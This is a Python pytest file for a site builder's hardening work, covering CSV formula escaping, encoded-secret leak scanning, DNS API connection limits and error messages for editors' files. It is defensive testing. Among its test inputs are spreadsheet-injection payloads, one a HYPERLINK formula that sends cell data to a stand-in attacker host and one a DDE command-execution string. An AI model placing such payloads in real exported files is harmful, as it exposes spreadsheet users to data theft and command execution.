"""The smaller hardening gaps of issue 24: CSV cells a spreadsheet would run as formulas,
secrets hidden in encoded forms, editors' files that fail without saying where, and the
DNS results API's idle connections."""

from __future__ import annotations

import csv
import io
import os
import secrets
import select
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

import site_builder.render  # noqa: F401  (imports the check package in the order the CLI does)
from site_builder.check.leaks import check_drafts, check_leaks
from site_builder.dnsleak import server as dnsleak_server
from site_builder.dnsleak.server import NameServer
from site_builder.dnsleak.zone import ZoneConfig
from site_builder.render.content import ContentError, content_pages
from site_builder.render.datafiles import FORMULA_STARTS, csv_file
from site_builder.render.netlify_files import redirects_file
from site_builder.render.page import Page

# ------------------------------------------------------------------------------ CSV cells


def parsed(rows: list[dict]) -> list[list[str]]:
    text = b"".join(csv_file(iter(rows))).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_text_cells_that_a_spreadsheet_would_run_are_quoted_as_owasp_recommends() -> None:
    hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        "  =cmd|'/c calc'!A1",
    ]
    rows = [{"name": text, "price": 1} for text in hostile]
    _header, *cells = parsed(rows)
    assert [row[0] for row in cells] == ["'" + text for text in hostile]


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row_or_cell() -> None:
    rows = [{"name": "fine\r=1+2", "note": "x"}, {"name": "y", "note": "z"}]
    assert parsed(rows) == [["name", "note"], ["fine\r=1+2", "x"], ["y", "z"]]


def test_csv_numbers_and_harmless_text_are_untouched() -> None:
    rows = [
        {"name": "H100 SXM", "delta": -3.5, "count": -2, "exact": Decimal("-0.10"), "n": None},
        {"name": "a-b = c", "delta": 0.0, "count": 7, "exact": Decimal("1.5"), "n": ""},
        {"name": "'=already quoted", "delta": 1e-9, "count": 0, "exact": Decimal("0"), "n": "x"},
    ]
    assert parsed(rows) == [
        ["name", "delta", "count", "exact", "n"],
        ["H100 SXM", "-3.5", "-2", "-0.10", ""],
        ["a-b = c", "0.0", "7", "1.5", ""],
        ["'=already quoted", "1e-09", "0", "0", "x"],
    ]


def test_csv_header_names_are_neutralised_too() -> None:
    assert parsed([{"=evil": 1}]) == [["'=evil"], ["1"]]


def test_csv_output_is_deterministic_across_chunks() -> None:
    rows = [{"name": f"={i}", "value": -i} for i in range(2_500)]  # more than one chunk
    chunks = list(csv_file(iter(rows)))
    assert len(chunks) > 1
    assert b"".join(chunks) == b"".join(csv_file(iter(rows)))


cell = st.one_of(
    st.text(max_size=12),
    st.text(alphabet="=+-@\t\r\n '\"; ,a1", max_size=8),
    st.integers(),
    st.floats(allow_nan=False),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.none(),
)


@given(st.lists(st.tuples(cell, cell), min_size=1, max_size=20))
def test_no_text_cell_reads_back_as_a_formula(pairs: list[tuple[object, object]]) -> None:
    rows = [{"a": a, "b": b} for a, b in pairs]
    _header, *out = parsed(rows)
    assert len(out) == len(rows)
    for row, read_back in zip(rows, out, strict=True):
        for value, text in zip(row.values(), read_back, strict=True):
            if isinstance(value, str):
                assert text[:1] not in FORMULA_STARTS
                assert text.lstrip()[:1] not in FORMULA_STARTS
                assert text in (value, "'" + value)  # nothing else is changed
            elif value is not None:
                assert text == str(value)  # numbers are written as they are


# ------------------------------------------------------------------------------ leak scan

SECRET = "s3cr3t'T0ken&42"
SECRETS = [("NETLIFY_AUTH_TOKEN", SECRET)]


def hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(c):X};" for c in text)


@pytest.mark.parametrize(
    ("written", "encoding"),
    [
        (hex_entities(SECRET), "HTML entities"),
        ("".join(f"&#{ord(c)}" for c in SECRET), "HTML entities"),  # no semicolons
        ("s3cr3t&#39;T0ken&amp;42", "HTML entities"),  # as Jinja's autoescape writes it
        ("s3cr3t&apos;T0ken&amp;42", "HTML entities"),  # named entities
        ("".join(f"%{b:02x}" for b in SECRET.encode()), "URL encoding"),
        ("s3cr3t%27T0ken%2642", "URL encoding"),
        ("s3cr3t&#37;27T0ken%2642", "HTML entities and URL encoding"),
        ("".join(f"\\u{ord(c):04x}" for c in SECRET), "JSON \\u escapes"),
    ],
)
def test_a_secret_behind_an_encoding_is_found_and_the_encoding_named(
    tmp_path: Path, written: str, encoding: str
) -> None:
    (tmp_path / "page.html").write_text(f"<a href='/x?t={written}'>link</a>")
    problems = check_leaks(tmp_path, SECRETS, [])
    assert problems == [
        f"page.html: contains the value of $NETLIFY_AUTH_TOKEN, written as {encoding}"
    ]
    assert SECRET not in " ".join(problems)


def test_a_plain_secret_is_reported_once_and_encoded_paths_are_found(tmp_path: Path) -> None:
    (tmp_path / "a.html").write_text(f"{SECRET} and {hex_entities(SECRET)}")
    (tmp_path / "b.json").write_text('{"p": "%2Fhome%2Feditor%2Fsite"}')
    (tmp_path / "c.html").write_text("<a href='file&#58;//etc/passwd'>x</a>")
    assert check_leaks(tmp_path, SECRETS, ["/home/editor/site"]) == [
        "a.html: contains the value of $NETLIFY_AUTH_TOKEN",
        "b.json: contains the local path /home/editor/site, written as URL encoding",
        "c.html: contains a file:// URL, written as HTML entities",
    ]


def test_ordinary_escapes_are_not_leaks(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(
        "<p>Tom &amp; Jerry &#8211; 100% uptime, 50%25 off, caf\\u00e9, &#x1F600; &bogus;</p>"
    )
    assert check_leaks(tmp_path, SECRETS, ["/home/editor/site"]) == []


# ------------------------------------------------------------------------------ DNS results API

DNS_SECRET = "test-secret-0123456789abcdef"


@contextmanager
def limited_server(idle_s: float, request_s: float) -> Iterator[NameServer]:
    ns = NameServer(
        ZoneConfig(
            zone="leak.example.com",
            nameservers=("ns1.leak.example.com",),
            answer_ipv4="192.0.2.80",
            answer_ipv6=None,
        ),
        secret=DNS_SECRET,
        dns_address=("127.0.0.1", 0),
        http_address=("127.0.0.1", 0),
        http_max_connections=3,
        http_idle_timeout_s=idle_s,
        http_request_timeout_s=request_s,
    )
    ns.start()
    try:
        yield ns
    finally:
        ns.stop()


def read_until_closed(sock: socket.socket, within_s: float = 30.0) -> bytes:
    """Everything the server sends until it hangs up; fails if it keeps the socket open."""
    sock.settimeout(within_s)
    chunks = []
    while chunk := sock.recv(4096):
        chunks.append(chunk)
    return b"".join(chunks)


def test_idle_connections_are_closed_and_never_hold_more_than_the_cap() -> None:
    with limited_server(idle_s=2, request_s=4) as server:
        idle_connections_are_closed_and_bounded(server)


def open_files() -> int:
    return len(os.listdir("/proc/self/fd"))


def idle_connections_are_closed_and_bounded(server: NameServer) -> None:
    threads_before, files_before = threading.active_count(), open_files()
    address = ("127.0.0.1", server.http_port)
    idle = [socket.create_connection(address, timeout=5) for _ in range(10)]
    try:
        # while the ten are open: once the refusals arrived, all ten have been accepted
        ready: list[socket.socket] = []
        for _ in range(50):
            ready, _, _ = select.select(idle, [], [], 0.1)
            if len(ready) >= 7:
                break
        assert threading.active_count() <= threads_before + 3
        answers = [read_until_closed(sock) for sock in idle]
        # three were served (and timed out without a word), the rest refused at once (on a
        # busy machine a late one may find a slot already freed by a timeout)
        refused = [a for a in answers if a.startswith(b"HTTP/1.0 503")]
        assert answers.count(b"") >= 3 and refused and len(refused) + answers.count(b"") == 10
        assert b"too many connections" in refused[0] and b"Retry-After: 1" in refused[0]
    finally:
        for sock in idle:
            sock.close()
    assert threading.active_count() <= threads_before + 3
    for _ in range(50):  # the server's ends close just after the clients saw them hang up
        if open_files() <= files_before:
            break
        time.sleep(0.1)
    assert open_files() <= files_before  # no socket of the server's left behind
    test_id = secrets.token_hex(16)
    response = httpx.get(
        f"http://127.0.0.1:{server.http_port}/results/{test_id}",
        headers={"Authorization": f"Bearer {DNS_SECRET}"},
        timeout=5,
    )
    assert response.status_code == 200 and response.json() == {"id": test_id, "resolvers": []}


def drip(address: tuple[str, int], payload: bytes) -> int:
    """Send `payload` a byte every 0.2 s until the server hangs up: the bytes sent."""
    with socket.create_connection(address, timeout=5) as sock:
        sent = 0
        for byte in payload:
            try:
                sock.sendall(bytes([byte]))
            except OSError:
                break
            sent += 1
            sock.settimeout(0.2)
            try:
                if sock.recv(4096) == b"":
                    break  # hung up
            except TimeoutError:
                pass
        return sent


def test_a_request_dripped_a_byte_at_a_time_is_cut_off_at_its_deadline() -> None:
    request = b"GET /healthz HTTP/1.0\r\n" + b"X-Slow: " + b"a" * 200 + b"\r\n\r\n"
    with limited_server(idle_s=0.5, request_s=1.5) as server:
        # each byte well within the idle timeout, but 1.5 s at 0.2 s a byte: cut off long
        # before the 233 bytes were all sent
        assert drip(("127.0.0.1", server.http_port), request) < len(request)
        healthz = httpx.get(f"http://127.0.0.1:{server.http_port}/healthz", timeout=5)
        assert healthz.json() == {"status": "ok"}


def test_a_dns_query_over_tcp_dripped_a_byte_at_a_time_is_cut_off(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(dnsleak_server, "TCP_CONNECTION_DEADLINE_S", 1.5)
    query = b"\x00\xff" + b"\x00" * 255  # a length prefix, then a query that never ends
    with limited_server(idle_s=2, request_s=4) as server:
        assert drip(("127.0.0.1", server.dns_port), query) < len(query)


# ------------------------------------------------------------------------------ editors' files

GUIDE = "---\ntitle: A guide\ndescription: About GPUs.\nslug: a-guide\ndate: 2026-11-01\n---\n"


def editor_pages(folder: Path, **options: object) -> list[Page]:
    def prices(data: object, args: list[str]) -> tuple[Markup, None]:
        if args == ["broken"]:
            return {}["missing"]  # a block's own fault, not a ValueError
        if args != ["ok"]:
            raise ValueError(f"no current offers for GPU {args[0]!r}")
        return Markup("<table></table>"), None

    return list(
        content_pages(
            folder,
            site_name="cloudgpus",
            blocks={"gpu-prices": prices},
            data=None,
            taken_urls={"/gpus/"},
            **options,  # type: ignore[arg-type]
        )
    )


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        (GUIDE.encode() + b"Caf\xe9 prices\n", 7, "byte 0xe9 is not UTF-8 text; save the file"),
        ("---\n- title\n- slug\n---\nx\n", 2, "must be 'key: value' lines, not a list"),
        ("---\ntitle: A\nslug: a\n\nBody.\n", 1, "the front matter is never closed (add a '---'"),
        ("Title\n---\n", 1, "no front matter (start the file with a '---' line)"),
        (GUIDE.replace("slug: a-guide", "slug: a-guide\nslug: b"), 5, "'slug' is given twice"),
        (GUIDE.replace("2026-11-01", "2026-13-45"), 5, "'2026-13-45' is not a date"),
        (GUIDE.replace("About", "Ab\x07out"), 3, "the character U+0007 is not allowed; remove"),
        (GUIDE.replace("title: A guide", "title: [A guide"), 2, "front matter is not valid YAML"),
        (GUIDE.replace("date:", "1: one\ndate:"), 5, "the key 1 is not a name (the keys are"),
        (GUIDE.replace("title: A guide\n", ""), 1, "(the front matter has no title; add a line"),
        (GUIDE.replace("date:", "author: me\ndate:"), 5, "author: Extra inputs are not permitted"),
        (GUIDE.replace("date:", "draft: maybe\ndate:"), 5, "draft: Input should be a valid bool"),
        (GUIDE.replace("slug: a-guide", "slug: A Guide"), 4, "expected lowercase letters, digits"),
        (GUIDE.replace("date:", "template: ../../x\ndate:"), 5, "template: String should match"),
        (GUIDE.replace("2026-11-01", "2026-11-01T10:00"), 5, "(expected a date as YYYY-MM-DD)"),
        (GUIDE.replace("a-guide", "gpus"), 4, "'gpus' is already a page of the site (/gpus/)"),
        (GUIDE.replace("a-guide", "guides"), 4, "slug 'guides' is already a page of the site"),
        (GUIDE + "Intro.\n\n::: gpu-table h100\n", 9, "unknown block 'gpu-table' (known: gpu-"),
        (GUIDE + "::: gpu-prices h200\n", 7, "block 'gpu-prices': no current offers for GPU"),
        (GUIDE + "::: gpu-prices broken\n", 7, "'gpu-prices' failed on 'broken' (KeyError"),
        (GUIDE + "Fine.\n\n" + "1. " * 3000 + "x\n", 7, "the markdown from this line to line 9"),
    ],
)
def test_every_error_in_an_editors_file_names_the_file_and_line(
    tmp_path: Path, content: str | bytes, line: int, message: str
) -> None:
    folder = tmp_path / "content"
    folder.mkdir()
    path = folder / "guide.md"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_bytes(content.encode())
    with pytest.raises(ContentError) as raised:
        editor_pages(folder)
    first = str(raised.value).splitlines()[0]
    assert first.startswith(f"{path}:{line}: "), first
    assert message in first


def test_a_byte_order_mark_and_windows_line_ends_are_fine(tmp_path: Path) -> None:
    text = "\ufeff" + GUIDE + "Hi.\n"
    (tmp_path / "guide.md").write_bytes(text.replace("\n", "\r\n").encode())
    [page] = editor_pages(tmp_path)
    assert page.url == "/a-guide/" and "<p>Hi.</p>" in page.context["body"]


def test_every_missing_key_is_named_at_once(tmp_path: Path) -> None:
    (tmp_path / "guide.md").write_text("---\n---\nx\n")
    with pytest.raises(ContentError) as raised:
        editor_pages(tmp_path)
    assert str(raised.value).splitlines() == [
        f"{tmp_path / 'guide.md'}:1: {key}: Field required (the front matter has no {key};"
        f" add a line '{key}: …')"
        for key in ("title", "description", "slug", "date")
    ]


def test_two_files_with_one_slug_name_each_other(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text(GUIDE)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/b.md").write_text(GUIDE.replace("date:", "draft: false\ndate:"))
    with pytest.raises(ContentError) as raised:
        editor_pages(tmp_path)
    assert str(raised.value) == (
        f"{tmp_path / 'sub/b.md'}:4: slug 'a-guide' is also the slug of {tmp_path / 'a.md'};"
        " give one of them another slug"
    )


def test_an_unknown_template_is_named_with_the_ones_there_are(tmp_path: Path) -> None:
    (tmp_path / "guide.md").write_text(GUIDE.replace("date:", "template: wide\ndate:"))
    templates = ["shared/content.html", "cloudgpus/long_read.html", "cloudgpus/home.html"]
    with pytest.raises(ContentError) as raised:
        editor_pages(tmp_path, templates=templates)
    assert str(raised.value) == (
        f"{tmp_path / 'guide.md'}:5: no template cloudgpus/wide.html;"
        " use content or one of home, long_read"
    )
    templates.append("cloudgpus/wide.html")
    assert editor_pages(tmp_path, templates=templates)[0].template == "cloudgpus/wide.html"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"/old /new 301\n/gpu\n", ":2: expected 'from to [status] [conditions]'"),
        (b"# moved\n/old /new 301\nold /new\n", ":3: from 'old' must start with / or be a URL"),
        (b"/old /new 999\n", ":1: unknown status '999' (expected 'from to [status]"),
        (b"/old /n\xe9w 301\n", ":1: byte 0xe9 is not UTF-8 text"),
    ],
)
def test_a_malformed_redirects_line_names_the_editors_file_and_line(
    tmp_path: Path, content: bytes, message: str
) -> None:
    editor_file = tmp_path / "_redirects"
    editor_file.write_bytes(content)
    with pytest.raises(ContentError) as raised:
        redirects_file(editor_file)
    assert str(raised.value).startswith(f"{editor_file}{message}")


def test_good_redirects_are_published_as_written(tmp_path: Path) -> None:
    editor_file = tmp_path / "_redirects"
    editor_file.write_text("# moved guides\n/old-guide/ /a-guide/ 301\n/blog/* /guides/ 302\n")
    assert redirects_file(editor_file).decode().endswith(editor_file.read_text())
    assert redirects_file(tmp_path / "missing").startswith(b"# Generated by site_builder")


def test_a_published_draft_saved_with_a_byte_order_mark_is_still_caught(tmp_path: Path) -> None:
    content, output = tmp_path / "content", tmp_path / "output"
    content.mkdir()
    (content / "plans.md").write_text("\ufeff---\ntitle: Plans\ndraft: true\n---\nSoon.\n")
    (output / "plans").mkdir(parents=True)
    (output / "plans/index.html").write_text("<html></html>")
    assert check_drafts(output, content) == ["plans/index.html: published from draft plans.md"]
